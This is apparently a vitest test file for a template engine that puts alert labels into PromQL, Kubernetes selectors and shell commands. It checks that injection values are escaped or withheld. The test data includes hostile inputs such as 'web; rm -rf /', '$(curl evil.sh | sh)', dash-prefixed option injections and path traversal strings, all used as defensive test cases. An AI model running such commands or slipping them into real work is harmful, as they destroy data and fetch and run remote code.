import { describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { hostOf, workloadOf } from "../../src/engine/expressions.ts";
import { compileTemplate, escapeFor, RejectedValue, type TemplateContext, TemplateError } from "../../src/engine/template.ts";
import { promqlParseError } from "../support/fake-prometheus.ts";
import { pod } from "../support/kube-objects.ts";

/** Renders `source` in `context` with the alert's labels set to `labels`. */
function render(source: string, context: TemplateContext, labels: Record<string, string>): string {
  return compileTemplate(source, context).render({ alert: { labels } });
}

describe("templates in PromQL", () => {
  it("escapes quotes, backslashes and newlines so a label value stays inside its string", () => {
    const query = render('up{job="{{ alert.labels.job }}"}', "promql", { job: 'a"b\\c\nd\re' });
    expect(query).toBe('up{job="a\\"b\\\\c\\nd\\re"}');
    expect(promqlParseError(query)).toBeUndefined();
  });

  it("keeps an injection attempt inside the label matcher", () => {
    const query = render('sum(rate(errors_total{job="{{ alert.labels.job }}"}[5m]))', "promql", { job: '"} or vector(1) or up{x="' });
    expect(query).toBe('sum(rate(errors_total{job="\\"} or vector(1) or up{x=\\""}[5m]))');
    expect(promqlParseError(query)).toBeUndefined();
  });

  it("refuses a placeholder outside a string literal when the rule is loaded", () => {
    expect(() => compileTemplate("rate(x[{{ alert.labels.window }}])", "promql")).toThrow(TemplateError);
    expect(() => compileTemplate("rate(x[{{ alert.labels.window }}])", "promql")).toThrow(/must be inside a "…" string literal/);
  });

  it("regex-quotes a value in the operand of =~, so a label cannot widen the match (issue #11, item 9)", () => {
    const query = render('up{job=~"{{ alert.labels.job }}"}', "promql", { job: ".+" });
    expect(query).toBe('up{job=~"\\\\.\\\\+"}');
    expect(promqlParseError(query)).toBeUndefined();
  });

  it.each([
    [
      "every RE2 metacharacter",
      "a.b*c+d?e(f)g|h[i]j{k}l^m$n\\o",
      'x{l=~"a\\\\.b\\\\*c\\\\+d\\\\?e\\\\(f\\\\)g\\\\|h\\\\[i\\\\]j\\\\{k\\\\}l\\\\^m\\\\$n\\\\\\\\o"}',
    ],
    ["a quote and a newline as well", 'a"|.*\n', 'x{l=~"a\\"\\\\|\\\\.\\\\*\\n"}'],
  ])("quotes %s for RE2, then for the PromQL string", (_what, value, expected) => {
    const query = render('x{l=~"{{ alert.labels.v }}"}', "promql", { v: value });
    expect(query).toBe(expected);
    expect(promqlParseError(query)).toBeUndefined();
  });

  it("makes each element of a list one literal alternative", () => {
    const template = compileTemplate('x{pod=~"{{ steps.pods.names }}"}', "promql");
    expect(template.render({ steps: { pods: { names: ["web-1", "web.2", "a|b"] } } })).toBe('x{pod=~"web-1|web\\\\.2|a\\\\|b"}');
  });

  it("quotes for regex after !~ too, with space around the operator, and leaves the literal regex of the rule alone", () => {
    expect(render('x{code=~"5..", job !~ "{{ alert.labels.job }}"}', "promql", { job: "api.*" })).toBe(
      'x{code=~"5..", job !~ "api\\\\.\\\\*"}',
    );
  });

  it("leaves a value in an = matcher or a function's string argument a plain string", () => {
    expect(render('x{a=~"b", job="{{ alert.labels.job }}"}', "promql", { job: ".+" })).toBe('x{a=~"b", job=".+"}');
    expect(render('label_join(x, "dst", "{{ alert.labels.sep }}", "a", "b")', "promql", { sep: ".*" })).toBe(
      'label_join(x, "dst", ".*", "a", "b")',
    );
  });

  it("regex-quotes label_replace's regex and keeps its replacement from expanding $1", () => {
    const query = render('label_replace(up{job="a"}, "dst", "{{ alert.labels.r }}", "instance", "{{ alert.labels.re }}")', "promql", {
      r: "$1-x",
      re: "(.*):.*",
    });
    expect(query).toBe('label_replace(up{job="a"}, "dst", "$$1-x", "instance", "\\\\(\\\\.\\\\*\\\\):\\\\.\\\\*")');
    expect(promqlParseError(query)).toBeUndefined();
  });

  it("accepts a placeholder after an escaped quote inside the same string", () => {
    expect(render('up{job="say \\"{{ alert.labels.job }}\\""}', "promql", { job: "api" })).toBe('up{job="say \\"api\\""}');
  });
});

describe("templates in field selectors", () => {
  it("escapes commas, equals signs and backslashes as the API server expects", () => {
    expect(render("involvedObject.name={{ alert.labels.pod }}", "fieldSelector", { pod: "a,b=c\\d" })).toBe(
      "involvedObject.name=a\\,b\\=c\\\\d",
    );
  });

  it("leaves an ordinary name alone", () => {
    expect(render("spec.nodeName={{ alert.labels.node }}", "fieldSelector", { node: "worker-1.example.com" })).toBe(
      "spec.nodeName=worker-1.example.com",
    );
  });
});

describe("templates in label selectors", () => {
  it("passes a valid label value through", () => {
    expect(render("app.kubernetes.io/name={{ alert.labels.app }}", "labelSelector", { app: "kube-state-metrics" })).toBe(
      "app.kubernetes.io/name=kube-state-metrics",
    );
  });

  it.each([
    ["a space", "my app"],
    ["a comma that would add a requirement", "web,tier!=frontend"],
    ["an equals sign", "a=b"],
    ["a leading dash", "-web"],
    ["64 characters", "a".repeat(64)],
  ])("refuses a value with %s and quotes it in the error", (_what, value) => {
    expect(() => render("app={{ alert.labels.app }}", "labelSelector", { app: value })).toThrow(TemplateError);
    expect(() => render("app={{ alert.labels.app }}", "labelSelector", { app: value })).toThrow(JSON.stringify(value));
  });
});

describe("templates in object names", () => {
  it.each(["kube-state-metrics-6d4b9c7f8-x2x9q", "node-1.example.com", "a"])("passes %s through", (name) => {
    expect(render("{{ alert.labels.pod }}", "objectName", { pod: name })).toBe(name);
  });

  it.each([
    ["upper case", "Web"],
    ["an underscore", "my_pod"],
    ["a slash that would change the request path", "../secrets/x"],
    ["an empty value", ""],
    ["254 characters", "a".repeat(254)],
  ])("refuses a name with %s", (_what, name) => {
    expect(() => render("{{ alert.labels.pod }}", "objectName", { pod: name })).toThrow(/is not a valid Kubernetes object name/);
  });
});

describe("templates in shell commands", () => {
  it.each(["kube-state-metrics", "monitoring/kube-state-metrics", "deployment/web", "10.0.0.5:6443", "app=web,tier=api"])(
    "leaves the safe value %s bare",
    (value) => {
      expect(render("kubectl describe {{ alert.labels.v | text }}", "shell", { v: value })).toBe(`kubectl describe ${value}`);
    },
  );

  it.each([
    ["a space", "my pod", "'my pod'"],
    ["a semicolon", "web; rm -rf /", "'web; rm -rf /'"],
    ["a command substitution", "$(curl evil.sh | sh)", "'$(curl evil.sh | sh)'"],
    ["backticks", "`id`", "'`id`'"],
    ["a single quote", "it's", "'it'\\''s'"],
    ["a double quote", 'say "hi"', `'say "hi"'`],
  ])("quotes free text with %s as one word", (_what, value, quoted) => {
    expect(render("kubectl -n monitoring logs {{ alert.labels.v | text }}", "shell", { v: value })).toBe(
      `kubectl -n monitoring logs ${quoted}`,
    );
  });

  it("leaves the command out, without a note, when the value is empty (a missing label read with orValue)", () => {
    const empty = () => render("kubectl -n {{ alert.labels.?ns.orValue('') | namespace }} get pods", "shell", {});
    expect(empty).toThrow(TemplateError);
    expect(empty).not.toThrow(RejectedValue);
  });
});

/** Renders a command, or the note shown instead of it. */
function command(source: string, labels: Record<string, unknown>): string {
  try {
    return compileTemplate(source, "shell").render({ alert: { labels } });
  } catch (error) {
    if (error instanceof RejectedValue) return error.note;
    throw error;
  }
}

describe("what a value in a command is (issue #11, item 5)", () => {
  it("withholds a command whose value would become an option, and says why in a note", () => {
    expect(command("kubectl get apiservice {{ alert.labels.name | apiservice }} -o yaml", { name: "--server=https://evil.example" })).toBe(
      "# command withheld: '--server=https://evil.example' from label name begins with a dash, so the command would read it as an option",
    );
    expect(command("kubectl get apiservice {{ alert.labels.name | apiservice }} -o yaml", { name: "v1beta1.metrics.k8s.io" })).toBe(
      "kubectl get apiservice v1beta1.metrics.k8s.io -o yaml",
    );
  });

  it.each([
    ["a hyphen-minus", "-o"],
    ["two hyphens", "--kubeconfig=/tmp/x"],
    ["a hyphen (U+2010)", "\u2010-server=x"],
    ["an en dash", "\u2013server=x"],
    ["an em dash", "\u2014o"],
    ["a minus sign", "\u2212o"],
    ["a fullwidth hyphen-minus", "\uFF0Do"],
  ])("refuses a leading dash, even in free text: %s", (_what, value) => {
    expect(command("echo {{ alert.labels.v | text }}", { v: value })).toMatch(/^# command withheld: .* begins with a dash/);
  });

  it.each([
    ["a newline", "web\nreboot"],
    ["a carriage return", "web\rreboot"],
    ["a NUL", "web\u0000"],
    ["a right-to-left override", "web\u202Egnp.exe"],
    ["a zero-width space", "web\u200B"],
    ["a line separator", "web\u2028reboot"],
  ])("refuses %s, even in free text", (_what, value) => {
    expect(command("echo {{ alert.labels.v | text }}", { v: value })).toMatch(
      /^# command withheld: .* contains a control or invisible character$/,
    );
  });

  it("keeps the note printable and inert: non-ASCII escaped, quotes closed, cut at 80 characters", () => {
    const note = command("kubectl describe node {{ alert.labels.node | name }}", { node: `x'$(id)\u00e9${"y".repeat(100)}` });
    expect(note).toMatch(
      /^# command withheld: 'x'\\''\$\(id\)\\u\{e9\}y+\.\.\.' from label node is not an object name, a DNS-1123 subdomain/,
    );
    expect(note).not.toMatch(/[^\x20-\x7e]/);
  });

  it.each<[string, string[], string[]]>([
    ["namespace", ["kube-system", "a", "a".repeat(63)], ["Kube-system", "a.b", "a_b", "a".repeat(64), "-a", "a-"]],
    ["name", ["metrics-server-6d94bc8694-7xq2k", "node-1.example.com"], ["Web", "a..b", "a/b", "a b", ".a", "a".repeat(254)]],
    ["service", ["metrics-server", "1abc"], ["metrics.server", "Metrics"]],
    ["container", ["kube-state-metrics"], ["a.b", "A"]],
    ["csr", ["node-csr-Qm3vT0b2k", "csr-4wq8n", "any name: at all"], ["a/b", "100%", ".", ".."]],
    [
      "apiservice",
      ["v1beta1.metrics.k8s.io", "v1.apps", "v1."],
      ["metrics", "v1beta1.", "1v.metrics.k8s.io", "v1beta1.metrics..io", "v1", "v1beta1.Metrics.k8s.io"],
    ],
    ["group", ["metrics.k8s.io"], ["metrics/k8s", "Metrics"]],
    ["version", ["v1beta1", "v1"], ["1", "v1.2", "V1"]],
    ["resource", ["jobs.batch", "pods", "leases.coordination.k8s.io"], ["Pods", "jobs/status"]],
    ["verb", ["list", "update"], ["LIST", "get,list", "*"]],
    [
      "workload",
      ["deployment/web", "statefulset/db", "daemonset/agent", "job/x", "pod/x"],
      ["secret/x", "deployment/", "deployment/Web", "web"],
    ],
    [
      "labelSelector",
      ["app=web", "app.kubernetes.io/name=metrics-server,tier=api", "app==web", "app="],
      ["app!=web", "app in (a)", "app", "app=web x", "a=b;c"],
    ],
    ["labelValue", ["v1.2.3", "A_b-c"], ["-a", "a b", "a".repeat(64)]],
    ["quantity", ["512Mi", "250m", "2", "1.5Gi"], ["512 Mi", "1e3", "Mi", "+2"]],
    ["number", ["2", "10.5"], ["1e3", "0x10", "2 "]],
    ["host", ["worker-1", "node-1.example.com", "10.0.0.5", "fd00::1"], ["node_1", "fd00::1]:443", "a b"]],
    [
      "azureResourceId",
      [
        "/subscriptions/0000-1111/resourceGroups/MC_rg_aks_westeurope/providers/Microsoft.Compute/virtualMachineScaleSets/aks-np-1-vmss/virtualMachines/0",
      ],
      ["/etc/passwd", "subscriptions/x/resourceGroups/y/providers/z"],
    ],
    ["text", ["the requester", "it's $(fine) here"], ["x".repeat(1025)]],
  ])("checks %s against Kubernetes' own rule", (kind, valid, invalid) => {
    const source = `kubectl x {{ alert.labels.v | ${kind} }}`;
    for (const v of valid) expect(command(source, { v }), v).not.toMatch(/^#/);
    for (const v of invalid) expect(command(source, { v }), v).toMatch(/^# command withheld: /);
  });

  it("checks every element of a list and joins them with commas", () => {
    expect(command("ssh {{ alert.labels.v | host }}", { v: ["cp-1", "cp-3"] })).toBe("ssh cp-1,cp-3");
    expect(command("ssh {{ alert.labels.v | host }}", { v: ["cp-1", "-oProxyCommand=x"] })).toMatch(
      /^# command withheld: '-oProxyCommand=x'/,
    );
  });

  it("turns a selector map into key=value pairs, each checked", () => {
    expect(command("kubectl get pods -l {{ alert.labels.v | labelSelector }}", { v: { app: "web", tier: "api" } })).toBe(
      "kubectl get pods -l app=web,tier=api",
    );
    expect(command("kubectl get pods -l {{ alert.labels.v | labelSelector }}", { v: { app: "web,x" } })).toMatch(/^# command withheld/);
  });

  it("names where the value came from: the label, else the first step it reads", () => {
    const template = compileTemplate("kubectl -n {{ steps.pods.items[0].metadata.namespace | namespace }} get pods", "shell");
    expect(() => template.render({ steps: { pods: { items: [{ metadata: { namespace: "a b" } }] } } })).toThrow(
      "'a b' from step pods is not a namespace name, a DNS-1123 label such as kube-system",
    );
  });
});

describe("where a value lands in a command, read from the template", () => {
  it("escapes only the single quote inside '…', since nothing else is special there", () => {
    expect(command("kubectl get --raw /metrics | grep 'flow_schema=\"{{ alert.labels.v | text }}\"'", { v: "it's $(id)" })).toBe(
      "kubectl get --raw /metrics | grep 'flow_schema=\"it'\\''s $(id)\"'",
    );
  });

  it("writes free text in a heredoc as a YAML double-quoted string, in ASCII, on one line", () => {
    const source = "kubectl apply -f - <<'EOF'\nuser:\n  name: {{ alert.labels.v | text }}\n  note: \"{{ alert.labels.v | text }}\"\nEOF";
    const value = 'jenkins "ci" é: 😀 #x';
    const rendered = command(source, { v: value });
    expect(rendered).toBe(
      'kubectl apply -f - <<\'EOF\'\nuser:\n  name: "jenkins \\"ci\\" \\u00e9: \\U0001f600 #x"\n  note: "jenkins \\"ci\\" \\u00e9: \\U0001f600 #x"\nEOF',
    );
    expect(parseYaml(rendered.split("\n").slice(1, -1).join("\n"))).toEqual({ user: { name: value, note: value } });
  });

  it("puts a checked name in a heredoc as it is", () => {
    expect(command("kubectl apply -f - <<'EOF'\nmetadata:\n  name: restrict-{{ alert.labels.v | name }}\nEOF", { v: "ci-runner" })).toBe(
      "kubectl apply -f - <<'EOF'\nmetadata:\n  name: restrict-ci-runner\nEOF",
    );
  });

  it.each([
    [
      "without saying what its value is",
      "kubectl get pod {{ alert.labels.pod }}",
      /must say what its value is, as \{\{ … \| name \}\}; kinds: namespace, name/,
    ],
    ["with a kind that does not exist", "kubectl get pod {{ alert.labels.pod | pod }}", /unknown kind "pod"/],
    ['inside "…", where $ and ` expand', 'kubectl get pod "{{ alert.labels.pod | name }}"', /is inside "…" in a command/],
    [
      "in a heredoc whose delimiter is not quoted",
      "cat <<EOF\nname: {{ alert.labels.pod | name }}\nEOF",
      /heredoc whose delimiter is not quoted/,
    ],
    [
      "at the start of a heredoc line, where it could end the heredoc",
      "cat <<'EOF'\n{{ alert.labels.pod | name }}\nEOF",
      /could complete a heredoc line/,
    ],
    ["in a heredoc's delimiter", "cat <<{{ alert.labels.pod | name }}\nx\n", /is in a heredoc delimiter/],
  ])("refuses a placeholder %s when the rule is loaded", (_what, source, message) => {
    expect(() => compileTemplate(source, "shell")).toThrow(message);
  });

  it("reads || in an expression as CEL, not as a kind", () => {
    expect(command("echo {{ alert.labels.a == 'x' || alert.labels.b == 'y' | text }}", { a: "x", b: "z" })).toBe("echo true");
  });
});

describe("template output", () => {
  it("prints a label value that looks like a placeholder literally, never evaluating it again", () => {
    const labels = { x: "{{ alert.labels.secret }}", secret: "do-not-show" };
    expect(render("value: {{ alert.labels.x }}", "text", labels)).toBe("value: {{ alert.labels.secret }}");
    expect(render("kubectl get pod {{ alert.labels.x | text }}", "shell", labels)).toBe("kubectl get pod '{{ alert.labels.secret }}'");
  });

  it("joins list values with commas and prints numbers and booleans as text", () => {
    const template = compileTemplate("{{ steps.pods.count }} pods: {{ steps.pods.names }} ok={{ steps.pods.ok }}", "text");
    expect(template.render({ steps: { pods: { count: 2, names: ["a", "b"], ok: true } } })).toBe("2 pods: a,b ok=true");
    expect(template.steps).toEqual(["pods", "pods", "pods"]);
  });

  it("leaves text without placeholders unchanged", () => {
    expect(render('up{job="api"}', "promql", {})).toBe('up{job="api"}');
  });

  it("escapes nothing in plain text", () => {
    expect(escapeFor('a "b" $(c)', "text")).toBe('a "b" $(c)');
  });
});

describe("hostOf", () => {
  it.each([
    ["10.0.0.5:6443", "10.0.0.5"],
    ["[fd00::1]:443", "fd00::1"],
    ["[fd00::1]", "fd00::1"],
    ["fd00::1", "fd00::1"],
    ["node-1", "node-1"],
    ["node-1.example.com:10250", "node-1.example.com"],
  ])("takes the host of %s", (instance, host) => {
    expect(hostOf(instance)).toBe(host);
  });

  it("is available to templates", () => {
    expect(render("{{ hostOf(alert.labels.instance) }}", "text", { instance: "[fd00::1]:443" })).toBe("fd00::1");
  });
});

describe("workloadOf", () => {
  const owned = (kind: string, name: string, labels: Record<string, string> = {}) =>
    pod({ name: `${name}-abcde`, labels, ownerReferences: [{ apiVersion: "apps/v1", kind, name, controller: true }] });

  it("names the Deployment of a pod owned by one of its ReplicaSets", () => {
    const ksm = owned("ReplicaSet", "kube-state-metrics-6d4b9c7f8", { "pod-template-hash": "6d4b9c7f8" });
    expect(workloadOf(ksm)).toBe("deployment/kube-state-metrics");
  });

  it("names a ReplicaSet that no Deployment made", () => {
    expect(workloadOf(owned("ReplicaSet", "standalone"))).toBe("replicaset/standalone");
  });

  it.each([
    ["StatefulSet", "statefulset/db"],
    ["DaemonSet", "daemonset/db"],
    ["Job", "job/db"],
  ])("names the %s that owns a pod", (kind, workload) => {
    expect(workloadOf(owned(kind, "db"))).toBe(workload);
  });

  it("names a pod nothing owns by itself", () => {
    expect(workloadOf(pod({ name: "debug" }))).toBe("pod/debug");
  });

  it("is available to templates in shell commands", () => {
    const ksm = owned("ReplicaSet", "kube-state-metrics-6d4b9c7f8", { "pod-template-hash": "6d4b9c7f8" });
    const template = compileTemplate("kubectl -n monitoring rollout restart {{ workloadOf(steps.pod.object) | workload }}", "shell");
    expect(template.render({ steps: { pod: { object: ksm } } })).toBe(
      "kubectl -n monitoring rollout restart deployment/kube-state-metrics",
    );
  });
});

describe("a map in a label selector", () => {
  it("becomes key=value pairs, each checked, as a Service's selector must", () => {
    const selector = compileTemplate("{{ service.spec.selector }}", "labelSelector");
    expect(selector.render({ service: { spec: { selector: { "app.kubernetes.io/name": "metrics-server", tier: "api" } } } })).toBe(
      "app.kubernetes.io/name=metrics-server,tier=api",
    );
    expect(() => selector.render({ service: { spec: { selector: { app: "x,y=z" } } } })).toThrow("is not a valid label value");
    expect(() => selector.render({ service: { spec: { selector: { "bad key!": "x" } } } })).toThrow("is not a valid label key");
  });
});

describe("number formatting in conditions and templates", () => {
  it("keeps the zeros of whole numbers and drops only trailing decimal zeros", () => {
    const render = (source: string) => compileTemplate(source, "text").render({});
    expect(render("{{ fixed(60, 0) }} {{ fixed(100.0, 0) }} {{ fixed(0.5, 2) }} {{ fixed(2.0, 1) }} {{ percent(0.1) }}")).toBe(
      "60 100 0.5 2 10%",
    );
  });
});
